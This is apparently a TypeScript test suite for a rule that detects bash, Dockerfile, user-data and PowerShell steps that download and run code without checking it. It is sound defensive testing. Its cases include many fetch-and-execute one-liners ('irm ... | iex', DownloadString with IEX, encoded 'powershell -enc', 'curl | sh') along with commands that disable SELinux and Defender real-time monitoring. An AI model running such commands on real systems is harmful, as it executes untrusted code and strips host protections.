// The rule about forbidden steps finds scripts that run what they download, in every spelling and wherever a script may
// stand, and leaves alone what only mentions one.

import { expect } from "chai";
import { harmlessScripts, unverifiedScripts } from "./cases/downloads";
import { bash, component, dockerfile, download, forbidden, inStep, runCommand, says, userData } from "./scriptSupport";
import type { Given } from "./support";

describe("Downloads that nothing verifies", () => {
    for (const [script, shown = script] of unverifiedScripts) {
        it(`are found in ${JSON.stringify(script)}`, () => {
            expect(says(bash(script))).to.deep.equal([forbidden("data", shown, inStep)]);
            expect(says(bash(...script.split("\n")))).to.deep.equal([forbidden("data", shown, inStep)]);
            expect(says(runCommand(script))).to.deep.equal([forbidden("data", shown, inStep)]);
            expect(says(userData(`#!/bin/bash\n${script}\n`))).to.deep.equal([forbidden("userDataBase64", shown)]);
            expect(says(component("ExecuteBinary", { path: "/bin/bash", arguments: ["-c", script] }))).to.have.length(
                1,
            );
            if (script.includes("\n")) return;
            expect(says(dockerfile(`RUN ${script}`))).to.deep.equal([
                forbidden("dockerfileTemplateData", shown, " in line 2"),
            ]);
        });
    }

    for (const script of harmlessScripts) {
        it(`are none in ${JSON.stringify(script)}`, () => {
            expect(says(bash(script))).to.deep.equal([]);
            expect(says(userData(`#!/bin/bash\n${script}\n`))).to.deep.equal([]);
            expect(says(component("ExecuteBinary", { path: "/bin/sh", arguments: ["-c", script] }))).to.deep.equal([]);
            if (!script.includes("\n")) expect(says(dockerfile(`RUN ${script}`))).to.deep.equal([]);
        });
    }

    it("are allowed where the setting says so, and other commands are not", () => {
        expect(says(bash(download), { downloads: false })).to.deep.equal([]);
        expect(says(bash(`${download}; setenforce 0`), { downloads: false })).to.deep.equal([
            forbidden("data", "setenforce 0", inStep),
        ]);
    });

    it("stay one finding for each command", () => {
        expect(says(bash("curl a | sh", "wget -qO- b | sh", "curl a | sh"))).to.deep.equal([
            forbidden("data", "curl a | sh", inStep),
            forbidden("data", "wget -qO- b | sh", inStep),
        ]);
        const long = `curl ${"a".repeat(300)} | sh`;
        expect(says(bash(long))).to.deep.equal([forbidden("data", `${long.slice(0, 200)}…`, inStep)]);
    });
});

describe("Scripts of PowerShell", () => {
    const script = (text: string): Given => component("ExecutePowerShell", { commands: text.split("\n") });

    for (const [text, shown] of [
        ["irm https://x.example/i.ps1 | iex", "irm https://x.example/i.ps1 | iex"],
        ["Invoke-WebRequest -UseBasicParsing https://a | Invoke-Expression", undefined],
        ["iwr -useb https://a |iex", undefined],
        ["IEX (New-Object Net.WebClient).DownloadString('https://a')", undefined],
        ['iex ((New-Object System.Net.WebClient).DownloadString("https://a"))', undefined],
        ["Invoke-Expression $(irm https://a)", undefined],
        ['Invoke-Expression "$(irm https://a)"', undefined],
        ["& ([scriptblock]::Create((irm https://a))) -Force", undefined],
        ["curl https://a | iex", undefined],
        ["irm https://a `\n  | iex", "irm https://a | iex"],
        ["irm https://a |\n  iex", "irm https://a | iex"],
        ["$s = irm https://a\niex $s", "iex $s"],
        ["$s = (New-Object Net.WebClient).DownloadString('https://a'); $s | iex", "$s | iex"],
        ['powershell -NoProfile -Command "irm https://a | iex"', "irm https://a | iex"],
        ["pwsh -c 'irm https://a | iex'", "irm https://a | iex"],
        ["iwr https://a -OutFile a.ps1; ./a.ps1", "./a.ps1"],
        ["iwr https://a -OutFile C:\\a.ps1\n& C:\\a.ps1", "& C:\\a.ps1"],
        [
            "(New-Object Net.WebClient).DownloadFile('https://a', 'a.ps1'); powershell -File a.ps1",
            "powershell -File a.ps1",
        ],
        [`powershell -enc ${Buffer.from("irm https://a | iex", "utf16le").toString("base64")}`, "irm https://a | iex"],
    ] as const) {
        it(`are found in ${JSON.stringify(text)}`, () => {
            const found = shown ?? text;
            expect(says(script(text))).to.deep.equal([forbidden("data", found, inStep)]);
            expect(says(runCommand(text, "AWS-RunPowerShellScript"))).to.deep.equal([forbidden("data", found, inStep)]);
            expect(says(userData(`<powershell>\n${text}\n</powershell>`))).to.deep.equal([
                forbidden("userDataBase64", found),
            ]);
        });
    }

    for (const text of [
        "# irm https://a | iex",
        "<# irm https://a\n| iex #>",
        "Write-Host 'irm https://a | iex'",
        'Write-Output "never: irm https://a | iex"',
        "irm https://a -OutFile a.ps1; if ((Get-FileHash a.ps1).Hash -ne 'abc') { exit 1 }; ./a.ps1",
        "$v = (irm https://a).tag_name; Write-Host $v",
        "irm https://a | ConvertFrom-Json",
        "iex 'Get-Process'",
        "iwr https://a -OutFile a.ps1; Get-Content a.ps1",
        "iwr https://a -OutFile a.msi; Start-Process msiexec -ArgumentList '/i a.msi'",
    ]) {
        it(`are none in ${JSON.stringify(text)}`, () => {
            expect(says(script(text))).to.deep.equal([]);
        });
    }

    it("may turn nothing off, whatever stands in a comment", () => {
        const off = "Set-MpPreference -DisableRealtimeMonitoring $true";
        expect(says(script(`# ${off}`))).to.deep.equal([]);
        expect(says(script(off))).to.deep.equal([forbidden("data", off, inStep)]);
    });
});
